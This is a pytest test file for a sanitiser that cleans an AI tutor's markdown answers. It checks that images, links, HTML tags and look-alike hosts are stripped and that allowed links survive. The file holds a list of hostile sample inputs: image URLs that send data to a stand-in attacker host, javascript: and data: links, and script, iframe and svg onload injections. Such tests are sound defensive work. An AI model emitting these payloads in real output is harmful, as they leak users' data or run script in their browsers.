"""A tutor's answer as it is shown: whatever a model writes, nothing is fetched and nothing runs."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from server_services.tutor.gate.clean import _may_lead_away, is_allowed, rendered, sanitised

HOSTS = frozenset({"docs.python.org"})
HOSTILE = [
    "![a](https://evil.example/p.png?d=c2VjcmV0)",
    "![a][1]\n\n[1]: https://evil.example/p.png",
    "[![a](https://evil.example/p.png)](https://evil.example)",
    "![![a](https://evil.example/q)](https://evil.example/p)",
    "!\\[a\\](https://evil.example/p.png)",
    "[click](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<https://evil.example/secret>",
    "<img src=https://evil.example/p.png>",
    "<script>alert(1)</script>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<svg onload=alert(1)>",
    '<a href="https://evil.example" onclick="x()">y</a>',
    '<p style="background:url(https://evil.example)">x</p>',
    "| a |\n|---|\n| ![x](https://evil.example/p) |",
    "&#33;[a](https://evil.example/p.png)",
]
FETCHED = re.compile(
    r"<(?:img|script|iframe|style|svg|object|link|form|input)\b|\son\w+=|\bsrc=", re.IGNORECASE
)


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_is_fetched_and_nothing_runs(markdown: str) -> None:
    """Rendered at once, or cleaned first and rendered then."""
    for html in (rendered(markdown), rendered(sanitised(markdown))):
        assert not re.search(FETCHED, re.sub(r"&lt;.*?&gt;|&lt;.*", "", html))
        assert "<a " not in html


@pytest.mark.parametrize("markdown", HOSTILE)
def test_cleaned_markdown_is_clean_for_any_renderer(markdown: str) -> None:
    """No image, no link, no tag is left in the text itself, and cleaning it again changes nothing."""
    clean = sanitised(markdown)
    assert not re.search(r"!\[[^\]]*\]\(|\]\(|^\[.*\]:|<\w", clean)
    assert clean == sanitised(clean)


@settings(max_examples=80)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "![", "](", "\\", "`", "[x]", "(https://e.x)", "<", ">", "!", "\n"]),
        max_size=6,
    )
)
def test_no_mixture_makes_an_image_or_a_link(parts: list[str]) -> None:
    """Pieces of hostile texts, in any order."""
    html = rendered(sanitised("".join(parts)))
    assert "<img" not in html
    assert "<a" not in html  # the word alone, as text, leads nowhere
    assert "<script" not in html


def test_what_a_tutor_writes_stays() -> None:
    """Code, emphasis, lists and tables."""
    text = "A **bold** `x < 3` and\n\n* one\n* two\n\n```python\nif a < b: print(1)\n```\n"
    assert text == sanitised(text)
    html = rendered(f"{text}\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    for wanted in (
        "<strong>bold</strong>",
        "<code>x &lt; 3</code>",
        "<li>one</li>",
        "language-python",
        "<td>2</td>",
    ):
        assert wanted in html


@pytest.mark.parametrize(
    ("markdown", "cleaned"),
    [
        ("See [x](https://e.x) now", "See x now"),
        ("![a](https://e.x)\n\n", "a\n\n"),
        ("`values[0](x)` is no link", "`values[0](x)` is no link"),
        (
            "```python\nif a <b and c[0]:\n    d(e[1](2))\n```\n",
            "```python\nif a <b and c[0]:\n    d(e[1](2))\n```\n",
        ),
        ("No line feed is added to <b>this</b>", "No line feed is added to this"),
    ],
)
def test_an_answer_ends_as_it_ended(markdown: str, cleaned: str) -> None:
    """What is taken out of it takes no line feed along, and brings none."""
    assert cleaned == sanitised(markdown)


@pytest.mark.parametrize(
    "text", ["\n" * 50_000 + "[", "[\n" * 20_000 + "]:", "> " * 30_000 + "]:", "[" * 60_000]
)
def test_a_long_text_is_looked_through_at_once(text: str) -> None:
    """Whatever signs it is made of: it takes a time that grows with its length."""
    began = time.process_time()
    _may_lead_away(text)
    assert time.process_time() - began < 0.5


def test_words_of_images_and_links_stay() -> None:
    """Only what they lead to is gone."""
    assert "a tree and the page" == sanitised("![a tree](https://e.x/t.png) and [the page](https://e.x)")


def test_a_link_to_an_allowed_host_stays() -> None:
    """Where the operator has allowed one, and it carries nothing along."""
    good = "See [the tutorial](https://docs.python.org/3/tutorial/).\n"
    assert good == sanitised(good, HOSTS)
    assert 'href="https://docs.python.org/3/tutorial/"' in rendered(good, HOSTS)
    assert "href" not in rendered(good)


@pytest.mark.parametrize(
    "address",
    [
        "http://docs.python.org/",
        "https://docs.python.org/?q=secret",
        "https://docs.python.org/#secret",
        "https://secret@docs.python.org/",
        "https://docs.python.org:8443/",
        "https://docs.python.org.evil.example/",
        "//docs.python.org/",
        "https://[docs",
        "javascript:alert(1)",
    ],
)
def test_no_link_carries_anything_along(address: str) -> None:
    """Nor leads somewhere that only looks allowed."""
    assert not is_allowed(address, HOSTS)
